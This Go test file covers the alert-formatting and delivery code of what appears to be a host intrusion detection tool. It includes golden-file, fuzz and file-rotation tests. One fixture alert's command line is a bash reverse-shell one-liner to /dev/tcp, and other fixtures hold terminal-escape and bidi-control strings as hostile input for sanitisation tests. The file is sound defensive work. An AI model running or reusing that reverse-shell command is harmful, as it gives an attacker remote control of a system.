package alert

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/sentineld/sentineld/internal/event"
)

var update = flag.Bool("update", false, "write the golden files anew")

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (go test -update writes it)", err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s differs (-want +got):\n%s", path, diff)
	}
}

func number(n int64) *int64 { return &n }

// alerts are one with everything and ones that lack or abuse something.
var alerts = []event.Alert{
	{
		ID: "a1b2", Time: 1_760_000_000_123_456_789, RuleID: "reverse-shell", RuleName: "Reverse shell", RuleVersion: "9f",
		Author: "Ann Example", Severity: event.SeverityCritical, Tags: []string{"attack.t1059.004"},
		Title: "Reverse shell: bash -i", State: "open", Key: "k", Count: 3, FirstSeen: 1_760_000_000_000_000_000,
		LastSeen: 1_760_000_000_100_000_000, Process: "abcdef01-42-7",
		Evidence: event.Evidence{
			Row:       json.RawMessage("{\n  \"pid\": 42\n}"),
			Process:   &event.ProcessInfo{Process: "abcdef01-42-7", PID: 42, Exe: "/bin/bash", Cmdline: "bash -i >& /dev/tcp/x/1", UID: number(0), User: "root", Cwd: "/", ContainerID: "c"},
			Parent:    &event.ProcessInfo{Process: "abcdef01-41-7", PID: 41},
			Ancestors: []string{"/usr/sbin/nginx", "/sbin/init"},
		},
		Complete: true,
	},
	{ID: "c3", Time: 1_760_000_001_000_000_000, RuleID: "bare", Severity: event.SeverityLow, Title: "nothing else is known", State: "open", Count: 1},
	{
		ID: "d4", Time: 1_760_000_002_000_000_000, RuleID: "steered", Severity: 9, Author: "\x1b]0;x\a",
		Title:    "red \x1b[31m, a new\nline, \ttab, \r, NUL \x00, DEL \x7f, C1 \u009b, not UTF-8 \xff\xfe, bidi \u202egpj\u2069 \u200f\u061c, \u2028, kept: é 漢 😀 \u00a0",
		Evidence: event.Evidence{Row: json.RawMessage(`{"half`), Ancestors: []string{"/tmp/\x1b[2J", "no slash", ""}},
	},
}

// local replaces the local time at the front of a line, which differs by where
// the test runs, by that of UTC.
func local(t *testing.T, line []byte, ns int64) []byte {
	t.Helper()
	prefix := time.Unix(0, ns).Format("15:04:05.000 ")
	rest, ok := bytes.CutPrefix(line, []byte(prefix))
	if !ok {
		t.Fatalf("%q does not begin with the local time %s", line, prefix)
	}
	return append(time.Unix(0, ns).UTC().AppendFormat(nil, "15:04:05.000 "), rest...)
}

func TestText(t *testing.T) {
	var got []byte
	for i := range alerts {
		got = append(append(got, local(t, AppendText(nil, &alerts[i]), alerts[i].Time)...), '\n')
	}
	golden(t, "text.txt", got)
}

func TestJSON(t *testing.T) {
	var got []byte
	for i := range alerts {
		b := AppendJSON(nil, &alerts[i])
		if !json.Valid(b) || bytes.ContainsAny(b, "\n\x1b") {
			t.Errorf("not one line of JSON: %s", b)
		}
		got = append(append(got, b...), '\n')
	}
	golden(t, "json.ndjson", got)
	if got := string(AppendJSON([]byte("x"), &alerts[1])); !strings.HasPrefix(got, `x{"kind":"alert"`) {
		t.Errorf("not appended: %s", got)
	}
}

// Whatever an attacker names his program, it stays in its line and leaves the
// terminal alone.
func FuzzAppendSafe(f *testing.F) {
	for i := range alerts {
		f.Add(alerts[i].Title)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := AppendSafe(nil, s)
		if !utf8.Valid(got) {
			t.Fatalf("%q is not UTF-8", got)
		}
		for _, r := range string(got) {
			if unicode.IsControl(r) || unicode.In(r, unicode.Bidi_Control, unicode.Zl, unicode.Zp) {
				t.Fatalf("%q has %U", got, r)
			}
		}
		harmless := func(r rune) bool { return r < ' ' || r > '~' }
		if !strings.ContainsFunc(s, harmless) && string(got) != s {
			t.Fatalf("plain %q became %q", s, got)
		}
		a := event.Alert{Title: s, Author: s, Evidence: event.Evidence{Row: json.RawMessage(s), Ancestors: []string{s}}}
		if b := AppendJSON(nil, &a); !json.Valid(b) || bytes.ContainsRune(b, '\n') {
			t.Fatalf("not one line of JSON: %s", b)
		}
		if b := AppendText(nil, &a); bytes.ContainsRune(b, '\n') {
			t.Fatalf("more than one line: %q", b)
		}
	})
}

func TestWriter(t *testing.T) {
	var out bytes.Buffer
	for _, w := range []*Writer{{W: &out}, {W: &out, JSON: true}} {
		if w.Name() != "stdout" {
			t.Errorf("name %q", w.Name())
		}
		if err := w.Deliver(t.Context(), &alerts[1]); err != nil {
			t.Fatal(err)
		}
	}
	want := string(AppendText(nil, &alerts[1])) + "\n" + string(AppendJSON(nil, &alerts[1])) + "\n"
	if out.String() != want {
		t.Errorf("got %q, want %q", out.String(), want)
	}
	bad := errors.New("closed")
	if err := (&Writer{W: broken{bad}}).Deliver(t.Context(), &alerts[0]); err != bad {
		t.Errorf("Deliver = %v", err)
	}
}

type broken struct{ err error }

func (b broken) Write([]byte) (int, error) { return 0, b.err }

// titles reads a file of alerts back.
func titles(t *testing.T, path string) (list []string) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(b)) {
		var a struct{ Title string }
		if err := json.Unmarshal([]byte(line), &a); err != nil || !strings.HasSuffix(line, "\n") {
			t.Errorf("%v in %q", err, line)
		}
		list = append(list, a.Title)
	}
	return list
}

func TestFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "alerts.ndjson")
	f := &File{path}
	if f.Name() != "file" {
		t.Errorf("name %q", f.Name())
	}
	deliver := func(title string) {
		t.Helper()
		if err := f.Deliver(t.Context(), &event.Alert{Title: title}); err != nil {
			t.Fatal(err)
		}
	}
	deliver("1")
	deliver("2")
	if st, err := os.Stat(path); err != nil || st.Mode().Perm() != 0o600 && runtime.GOOS != "windows" {
		t.Errorf("%v, %v: alerts are for their owner alone", st.Mode(), err)
	}
	// logrotate(8) moves the file away and tells nobody.
	if err := os.Rename(path, path+".1"); err != nil {
		t.Fatal(err)
	}
	deliver("3")
	if diff := cmp.Diff([]string{"1", "2"}, titles(t, path+".1")); diff != "" {
		t.Error("moved file: ", diff)
	}
	if diff := cmp.Diff([]string{"3"}, titles(t, path)); diff != "" {
		t.Error("new file: ", diff)
	}
}

func TestFileErrors(t *testing.T) {
	dir := t.TempDir()
	err := (&File{filepath.Join(dir, "none", "alerts")}).Deliver(t.Context(), &alerts[0])
	if !errors.Is(err, fs.ErrNotExist) || !strings.Contains(err.Error(), filepath.Join(dir, "none", "alerts")) {
		t.Errorf("directory is missing: %v", err)
	}
	if err := (&File{dir}).Deliver(t.Context(), &alerts[0]); err == nil {
		t.Error("a directory in place of the file: no error")
	}
}
